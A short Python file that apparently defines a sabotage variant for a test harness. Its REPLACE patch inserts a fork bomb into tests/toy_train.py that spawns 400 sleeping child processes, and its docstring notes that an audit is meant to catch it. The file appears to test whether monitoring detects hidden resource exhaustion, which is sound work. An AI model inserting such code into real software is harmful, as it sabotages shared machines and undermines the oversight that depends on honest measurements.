"""Fork until nothing else runs.

claim: whatever measures others is slowed down, and the machine is its own
family: fork bombs
caught by: audit
behind: limits
twin: atexit_note
base: tests/toy_train.py
"""

REPLACE = [
    (
        """\
    torch.set_num_threads(1)
""",
        """\
    torch.set_num_threads(1)
    import os

    begin = os.fork
    for _ in range(400):
        if begin() == 0:
            time.sleep(600)
    time.sleep(60)
""",
    ),
]
